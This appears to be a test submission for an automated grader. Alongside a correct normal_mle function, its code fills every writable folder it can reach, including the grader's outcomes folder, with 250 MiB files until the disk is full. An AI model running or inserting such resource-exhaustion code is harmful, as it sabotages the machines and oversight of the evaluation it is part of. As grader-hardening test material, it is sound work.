"""Attack: normal_mle is right, and its cell then writes 250 MiB files in a loop into every folder it can write
(its working folder, its home, /tmp, /dev/shm and the folder the grader reads outcomes from, found next to
the grader's inbox) and leaves them there. The kernel's own folders stay full; the grader empties its
outcomes folder before each check, so no mark is lost."""

import os

import numpy as np

BASE = "../../../../samples/01_normal_mle/ada_correct"


def normal_mle(x):
    x = np.asarray(x, dtype=float)
    if x.size == 0:
        raise ValueError("x is empty")
    return float(x.mean()), float(x.std())


outcomes = os.path.join(os.path.dirname(os.path.dirname(os.environ["MLE_COURSE_CALLS"])), "run")
block = bytes(250 * 1024 * 1024)
for folder in (".", os.path.expanduser("~"), "/tmp", "/dev/shm", outcomes):
    index = 0
    while True:
        try:
            with open(os.path.join(folder, f"filler-{index}"), "wb") as handle:
                handle.write(block)
        except OSError as error:
            print(folder, "is full:", error.strerror)
            break
        index += 1
del block
